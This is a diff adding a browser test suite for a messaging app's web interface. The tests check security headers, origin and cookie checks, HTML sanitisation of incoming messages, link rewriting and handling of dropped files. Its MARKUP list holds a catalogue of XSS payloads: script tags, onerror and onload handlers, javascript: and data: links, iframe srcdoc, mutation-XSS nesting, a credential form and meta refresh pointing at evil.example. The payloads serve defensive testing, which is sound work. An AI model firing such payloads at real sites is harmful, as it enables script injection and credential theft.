@@ -1,0 +1,226 @@
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import type { Page, Request } from 'playwright-core';
+import { describe, expect, it } from 'vitest';
+import { PATIENTLY } from './harness/patiently.ts';
+import { setUpScripted } from './harness/scripted.ts';
+import { message, snapshot, text } from './harness/updates.ts';
+
+/** What a hostile platform, page or hand can do in the window of the whole product: nothing. */
+const scripted = setUpScripted();
+
+const PNG =
+  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
+const RUN = 'window.testRan = true';
+const MARKUP = [
+  `<script>${RUN}</script>`,
+  `<img src="https://evil.example/a.png" onerror="${RUN}"><img src=x onerror="${RUN}">`,
+  `<p onclick="${RUN}" class="message" id="root" style="position:fixed;inset:0" data-view="login" role="alertdialog">kept</p>`,
+  `<a href="javascript:${RUN}">script link</a><a href=" java\nscript:${RUN}">broken link</a>`,
+  `<a href="data:text/html,<script>${RUN}</script>">data link</a>`,
+  '<a href="https://good.example/" onmouseover="1" target="_self">good link</a>',
+  `<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
+  '<form action="https://evil.example/"><input name="password"><button>Send</button></form>',
+  '<style>@import "https://evil.example/a.css"; main { display: none }</style>',
+  '<link rel="stylesheet" href="https://evil.example/b.css"><base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  `<svg onload="${RUN}"><a href="javascript:${RUN}"><text>svg</text></a><image href="https://evil.example/c.png"/></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
+  '<video src="https://evil.example/d.mp4" poster="https://evil.example/e.png" autoplay></video>',
+  '<object data="https://evil.example/f"></object><embed src="https://evil.example/g">',
+  '<img srcset="https://evil.example/h.png 1x"><table background="https://evil.example/i.png"><tr><td>cell</td></tr></table>',
+];
+
+/** Everything that the page asks for from now on, but of its own host; and whether it went anywhere. */
+function watch(page: Page): { readonly requests: string[]; readonly navigations: string[] } {
+  const seen = { requests: [] as string[], navigations: [] as string[] };
+  const ours = new URL(page.url()).origin;
+  page.on('request', (request: Request) => {
+    if (!request.url().startsWith(`${ours}/`) && !/^(?:data|blob):/u.test(request.url()))
+      seen.requests.push(request.url());
+  });
+  page.on('framenavigated', (frame) => seen.navigations.push(frame.url()));
+  return seen;
+}
+
+const ran = (page: Page) => page.evaluate(() => Reflect.has(window, 'testRan'));
+
+describe('what is served', () => {
+  it('contract §2: the page, under a policy that allows nothing but what ships', async () => {
+    const page = await scripted().open();
+    const response = await page.reload();
+    const headers = response?.headers() ?? {};
+    expect(headers['content-security-policy']?.split('; ')).toEqual([
+      "default-src 'none'",
+      "script-src 'self'",
+      "style-src 'self'",
+      "font-src 'self'",
+      "connect-src 'self'",
+      "img-src 'self' data: blob:",
+      'media-src data: blob:',
+      "base-uri 'none'",
+      "form-action 'none'",
+      "frame-ancestors 'none'",
+    ]);
+    expect(headers).toMatchObject({
+      'cache-control': 'no-store',
+      'cross-origin-opener-policy': 'same-origin',
+      'referrer-policy': 'no-referrer',
+      'x-content-type-options': 'nosniff',
+      'x-frame-options': 'DENY',
+    });
+    for (const feature of ['microphone', 'camera', 'geolocation', 'usb']) {
+      expect(headers['permissions-policy']).toContain(`${feature}=()`);
+    }
+  });
+
+  it('contract §2: without the cookie or from a foreign origin, 403 for pages and for the bridge', async () => {
+    const { parley, browser } = scripted();
+    const { origin } = new URL(parley.url);
+    const stranger = await browser.newContext();
+    const page = await stranger.newPage();
+    for (const path of ['/', '/?token=guessed', '/-/preload.js', '/index.html']) {
+      expect((await page.goto(origin + path))?.status()).toBe(403);
+    }
+    const known = await scripted().open();
+    const cookie = (await known.context().cookies()).map(({ name, value }) => `${name}=${value}`).join('; ');
+    const upgrade = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-version': '13' };
+    for (const foreign of [{ origin: 'https://evil.example' }, { host: 'evil.example' }]) {
+      const headers = { ...upgrade, 'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==', cookie, ...foreign };
+      expect((await stranger.request.get(`${origin}/-/bridge`, { headers })).status()).toBe(403);
+    }
+    await stranger.close();
+  });
+
+  it('the page’s own script evaluates a text or adds one, the policy refuses', async () => {
+    const page = await scripted().open();
+    const refused = await page.evaluate(
+      (code) =>
+        new Promise<string[]>((resolve) => {
+          const directives: string[] = [];
+          document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+            if (directives.push(effectiveDirective) === 3) resolve(directives);
+          });
+          document.body.append(Object.assign(document.createElement('script'), { textContent: code }));
+          document.body.append(Object.assign(new Image(), { src: 'https://evil.example/a.png' }));
+          fetch('https://evil.example/').catch(() => undefined);
+        }),
+      RUN,
+    );
+    expect(refused.sort()).toEqual(['connect-src', 'img-src', 'script-src-elem']);
+    expect(await ran(page)).toBe(false);
+  });
+});
+
+describe('a hostile message', () => {
+  it('spec §2.4 `html`: markup of every trick, nothing runs, loads, navigates or poses as the window', async () => {
+    const { page, socket } = await scripted().openSignedIn();
+    const seen = watch(page);
+    socket.send(
+      snapshot(
+        message(
+          'a',
+          MARKUP.map((html) => ({ category: 'html', html })),
+        ),
+      ).frame,
+    );
+    await page.getByText('kept', { exact: true }).click();
+    await page.getByText('script link').click();
+    await page.getByText('broken link').click();
+    await page.getByText('data link').click();
+    socket.send(message('b', [text('after them')]));
+    await page.getByText('after them', { exact: true }).first().waitFor();
+    const markup = page.locator('.markup');
+    expect(
+      await markup
+        .locator('script, style, iframe, form, input, svg, math, video, object, embed, link, base, meta')
+        .count(),
+    ).toBe(0);
+    expect(
+      await markup
+        .locator('[class], [id], [style], [role], [data-view], [onclick], [onerror], [srcset]')
+        .count(),
+    ).toBe(0);
+    expect(await ran(page)).toBe(false);
+    expect(seen).toEqual({ requests: [], navigations: [] });
+    expect(await page.locator('main').isVisible()).toBe(true);
+  });
+
+  it('links, only to the web and to mail, opened apart and without a way back', async () => {
+    const { page, socket } = await scripted().openSignedIn();
+    socket.send(
+      message(
+        'a',
+        MARKUP.map((html) => ({ category: 'html', html })),
+      ),
+    );
+    await page.getByRole('link', { name: 'good link' }).waitFor();
+    const links = await page
+      .locator('.markup a')
+      .evaluateAll((all) =>
+        all.map((link) => [
+          link.textContent,
+          ...['href', 'target', 'rel'].map((name) => link.getAttribute(name)),
+        ]),
+      );
+    expect(links).toEqual([
+      ['script link', null, null, null],
+      ['broken link', null, null, null],
+      ['data link', null, null, null],
+      ['good link', 'https://good.example/', '_blank', 'noopener noreferrer'],
+    ]);
+  });
+
+  it('markup in every other field, words', async () => {
+    const { page, socket } = await scripted().openSignedIn();
+    const seen = watch(page);
+    const evil = `<img src=x onerror="${RUN}">`;
+    const fields = { modifier: evil, context: evil, avatar: `x" onerror="${RUN}` };
+    const content = [
+      ...['text', 'audio', 'image', 'file', evil].map((category) => ({ category, text: evil, blob: PNG })),
+      { category: 'image', text: evil, blob: Buffer.from(`<svg onload="${RUN}"/>`).toString('base64') },
+      { category: 'image', text: evil, blob: 'https://evil.example/a.png' },
+    ];
+    socket.send({ person: `${evil} ${evil}`, messages: [message(evil, content, fields)] });
+    await expect.poll(() => page.locator('.item').count(), PATIENTLY).toBe(content.length);
+    socket.send({ ring: true });
+    await page.getByRole('region', { name: 'Notifications' }).getByText(evil).first().waitFor();
+    socket.close(4000, evil);
+    await page.getByText(`Disconnected: ${evil}`, { exact: true }).waitFor();
+    expect(await page.locator('img[src="x"], svg[onload]').count()).toBe(0);
+    expect(await ran(page)).toBe(false);
+    expect(seen).toEqual({ requests: [], navigations: [] });
+  });
+});
+
+describe('a file dropped by the system', () => {
+  it('anywhere on the window, it is never opened in its place', async () => {
+    const { parley, openSignedIn, openSignedOut } = scripted();
+    const file = join(parley.dataDir, 'dropped.html');
+    writeFileSync(file, '<title>dropped</title>', { mode: 0o600 });
+    const page = await openSignedOut();
+    const seen = watch(page);
+    for (const place of ['header', 'form', 'input']) await dropAt(page, place, file);
+    const { socket } = await openSignedIn();
+    seen.navigations.length = 0;
+    await page.keyboard.type('text');
+    for (const place of ['header', 'textarea']) await dropAt(page, place, file);
+    await dropAt(page, '[role="log"]', file);
+    expect(await socket.frames.next()).toContain('"text":"dropped.html"');
+    expect(seen).toEqual({ requests: [], navigations: [] });
+    expect(page.context().pages()).toHaveLength(1);
+  });
+});
+
+/** A drop as the system makes it: one that nobody takes opens the file. */
+async function dropAt(page: Page, selector: string, file: string): Promise<void> {
+  const box = await page.locator(selector).first().boundingBox();
+  if (box === null) throw new Error(`There is no ${selector} to be seen.`);
+  const session = await page.context().newCDPSession(page);
+  const data = { items: [], files: [file], dragOperationsMask: 1 };
+  const at = { x: box.x + box.width / 2, y: box.y + box.height / 2, data };
+  for (const type of ['dragEnter', 'dragOver', 'drop'] as const) {
+    await session.send('Input.dispatchDragEvent', { type, ...at });
+  }
+  await session.detach();
+}
